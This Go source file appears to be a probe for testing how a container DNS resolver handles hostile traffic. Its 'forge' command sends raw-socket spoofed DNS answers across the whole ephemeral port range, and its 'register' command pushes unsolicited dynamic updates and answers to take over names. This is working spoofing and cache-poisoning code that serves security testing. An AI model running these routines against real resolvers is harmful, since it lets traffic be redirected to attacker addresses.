package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// resolver is where containers ask.
var resolver = netip.MustParseAddrPort("127.0.0.11:53")

// names does something with DNS:
//
//	probe dns serve ADDRESS DELAY            answer all questions with the address, late
//	probe dns ask NAME PORT ID               ask as a client that can be foreseen
//	probe dns forge NAME VICTIM SERVER PORT ID  answer before others do, once
//	probe dns register NAME                  give the name to this container
func names(args []string) error {
	for command, f := range map[string]func([]string) error{"serve": serve, "ask": ask, "forge": forge, "register": register} {
		if len(args) > 0 && args[0] == command {
			return f(args[1:])
		}
	}
	return fmt.Errorf("cannot do %q with DNS", args)
}

func answer(q *dns.Msg, address string) *dns.Msg {
	m := new(dns.Msg)
	m.SetReply(q)
	m.RecursionAvailable = true
	m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(address)}}
	return m
}

func serve(args []string) error {
	delay, err := time.ParseDuration(args[1])
	if err != nil {
		return err
	}
	return dns.ListenAndServe(":53", "udp", dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		time.AfterFunc(delay, func() { w.WriteMsg(answer(q, args[0])) })
	}))
}

// ask prints the address of the first answer that seems to come from the resolver. Its
// port and ID are as given, as those of bad clients can be guessed.
func ask(args []string) error {
	port, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{Port: port})
	if err != nil {
		return err
	}
	defer conn.Close()
	q, err := question(args[0], args[2])
	if err != nil {
		return err
	}
	packed, err := q.Pack()
	if err != nil {
		return err
	}
	b := make([]byte, 4096)
	for range 10 { // datagrams get lost
		if _, err := conn.WriteToUDPAddrPort(packed, resolver); err != nil {
			return err
		}
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		for {
			n, from, err := conn.ReadFromUDPAddrPort(b)
			if err != nil {
				break
			}
			var m dns.Msg
			if from.Addr().Unmap() != resolver.Addr() || m.Unpack(b[:n]) != nil || m.Id != q.Id || len(m.Answer) == 0 {
				continue
			}
			fmt.Println(m.Answer[0].(*dns.A).A)
			return nil
		}
	}
	return errors.New("nobody answers")
}

func question(name, id string) (*dns.Msg, error) {
	n, err := strconv.ParseUint(id, 10, 16)
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), dns.TypeA)
	q.Id = uint16(n)
	return q, err
}

// forge sends answers to a client as its resolver, and to its resolver as the server
// that is asked, at all ports that either may have.
func forge(args []string) error {
	q, err := question(args[0], args[4])
	if err != nil {
		return err
	}
	victim, server := netip.MustParseAddr(args[1]), netip.MustParseAddr(args[2])
	port, err := strconv.ParseUint(args[3], 10, 16)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	send := func(from netip.Addr, port uint16, id uint16) error {
		m := answer(q, "203.0.113.66")
		m.Id = id
		packed, err := m.Pack()
		if err != nil {
			return err
		}
		err = unix.Sendto(fd, packet(netip.AddrPortFrom(from, 53), netip.AddrPortFrom(victim, port), packed), 0, &unix.SockaddrInet4{Addr: victim.As4()})
		if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EPERM) || errors.Is(err, unix.EINVAL) {
			err = nil // one that did not get out
		}
		return err
	}
	for range 100 {
		for _, from := range []netip.Addr{resolver.Addr(), server} {
			if err := send(from, uint16(port), q.Id); err != nil {
				return err
			}
		}
	}
	for _, id := range []uint16{q.Id, 0, 1} {
		for p := 32768; p < 61000; p++ { // ip(7), ip_local_port_range
			if err := send(server, uint16(p), id); err != nil {
				return err
			}
		}
	}
	return nil
}

// packet is one of UDP over IPv4, whose checksum the kernel fills in.
func packet(from, to netip.AddrPort, payload []byte) []byte {
	udp := binary.BigEndian.AppendUint16(nil, from.Port())
	udp = binary.BigEndian.AppendUint16(udp, to.Port())
	udp = binary.BigEndian.AppendUint16(udp, uint16(8+len(payload)))
	udp = append(append(udp, 0, 0), payload...)
	head := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, unix.IPPROTO_UDP, 0, 0}
	return slices.Concat(head, from.Addr().AsSlice(), to.Addr().AsSlice(), udp)
}

// register asks the resolver to change what a name means (RFC 2136), and tells it
// answers that nobody asked for.
func register(args []string) error {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return err
	}
	own := ""
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			own = n.IP.String()
		}
	}
	rr, err := dns.NewRR(dns.Fqdn(args[0]) + " 3600 IN A " + own)
	if err != nil {
		return err
	}
	update := new(dns.Msg)
	update.SetUpdate(".")
	update.Insert([]dns.RR{rr})
	q, err := question(args[0], "7")
	if err != nil {
		return err
	}
	for _, m := range []*dns.Msg{update, answer(q, own)} {
		for _, network := range []string{"udp", "tcp"} {
			conn, err := dns.DialTimeout(network, resolver.String(), 2*time.Second)
			if err != nil {
				return err
			}
			conn.SetDeadline(time.Now().Add(time.Second))
			if err := conn.WriteMsg(m); err != nil {
				return err
			}
			if said, err := conn.ReadMsg(); err == nil && said.Rcode == dns.RcodeSuccess {
				fmt.Println("it was taken:", said)
			}
			conn.Close()
		}
	}
	return nil
}
